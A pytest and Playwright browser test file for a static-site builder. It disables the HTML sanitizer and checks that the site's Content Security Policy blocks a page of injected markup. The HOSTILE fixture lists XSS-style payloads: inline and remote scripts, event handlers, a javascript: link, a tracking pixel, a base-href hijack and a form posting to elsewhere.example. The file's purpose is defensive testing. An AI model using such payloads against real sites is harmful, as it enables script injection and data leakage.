"""The Content Security Policy of the pages: what slips past the sanitizer is shown, and not carried out."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from dateline.pipeline import build_site
from dateline.publishing.output import write_site

pytestmark = pytest.mark.browser

HOSTILE = """---
title: About this story
---
Readable all the same.

<script>window.ran = 'a script in the page'</script>
<script src="https://elsewhere.example/hostile.js"></script>
<script src="data:text/javascript,window.ran='a script in an address'"></script>
<img src="missing.png" onerror="window.ran = 'a handler'" alt="a picture">
<svg onload="window.ran = 'a drawing'"></svg>
<iframe srcdoc="<script>parent.ran = 'a frame'</script>" title="a frame"></iframe>
<style>h1 { display: none }</style>
<p style="display: none" id="styled">In plain sight.</p>
<a id="trap" href="javascript:window.ran='a link'">a link</a>
<img src="https://elsewhere.example/pixel.gif" alt="a picture that tells of the reader">
<iframe src="https://elsewhere.example/frame.html" title="a frame of elsewhere"></iframe>
<object data="https://elsewhere.example/object.swf"></object>
<link rel="stylesheet" href="https://elsewhere.example/style.css">
<video src="https://elsewhere.example/film.mp4"></video>
<base href="https://elsewhere.example/">
<form action="https://elsewhere.example/collect"><input name="q" value="x"><button id="send">Send</button></form>
"""


WATCH = """
window.refused = [];
addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective + ' ' + e.blockedURI));
"""
"""Notes what the policy refuses; what a test adds to a page is under no policy."""


@pytest.fixture(scope="module")
def hostile_site(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The made-up story with a page that the sanitizer let through as it was."""
    folder = tmp_path_factory.mktemp("hostile")
    content = folder / "content"
    shutil.copytree(root / "tests/browser/story", content)
    (content / "pages/about.md").write_text(HOSTILE, "utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("dateline.reading.safe_html.nh3.clean", lambda html, **_: html)
        write_site(build_site(content).files, folder / "site", protected=(content,))
    assert "window.ran = 'a script in the page'" in (folder / "site/about.html").read_text("utf-8")
    return folder / "site"


@pytest.fixture(params=["file", "subpath"])
def hostile_page(
    request: pytest.FixtureRequest,
    browser: Browser,
    hostile_site: Path,
    serve_folder: Callable[[Path], AbstractContextManager[str]],
) -> Iterator[Page]:
    with serve_folder(hostile_site) as home:
        context = browser.new_context()
        page = context.new_page()
        page.add_init_script(WATCH)
        refused: dict[str, str | None] = {}
        page.on("requestfailed", lambda asked: refused.update({asked.url: asked.failure}))
        page.goto((home if request.param == "subpath" else hostile_site.as_uri() + "/") + "about.html")
        yield page
        context.close()
    assert refused["https://elsewhere.example/hostile.js"] == "csp"


def test_nothing_of_a_hostile_page_runs(hostile_page: Page) -> None:
    address = hostile_page.url
    hostile_page.locator("#trap").click()
    expect(hostile_page.locator("html")).to_have_class("js")
    assert hostile_page.evaluate("window.ran") is None
    assert hostile_page.url == address


def test_a_hostile_page_asks_nobody_and_sends_nothing(hostile_page: Page) -> None:
    address = hostile_page.url
    hostile_page.locator("#send").dispatch_event("click")  # a click would wait for the page that it leads to
    refused: set[str] = set()
    for _ in range(200):
        refused = set(hostile_page.evaluate("window.refused"))
        if any(one.startswith("form-action") for one in refused):
            break
        hostile_page.wait_for_timeout(50)
    assert hostile_page.url == address
    elsewhere = "https://elsewhere.example"
    assert refused == {
        *("script-src-elem inline", "script-src-elem data", "script-src-attr inline"),
        *("style-src-elem inline", "style-src-attr inline"),
        *(f"script-src-elem {elsewhere}/hostile.js", f"style-src-elem {elsewhere}/style.css", f"base-uri {elsewhere}/"),
        *(f"img-src {elsewhere}/pixel.gif", f"media-src {elsewhere}/film.mp4", f"frame-src {elsewhere}"),
        *(f"object-src {elsewhere}", f"form-action {elsewhere}/collect?q=x"),
    }


def test_a_hostile_page_stays_readable(hostile_page: Page) -> None:
    expect(hostile_page.locator("h1")).to_be_visible()
    expect(hostile_page.get_by_text("Readable all the same.")).to_be_visible()
    expect(hostile_page.locator("#styled")).to_be_visible()
    hostile_page.locator("#theme").click()
    expect(hostile_page.locator("#theme")).to_have_text("Theme: light")
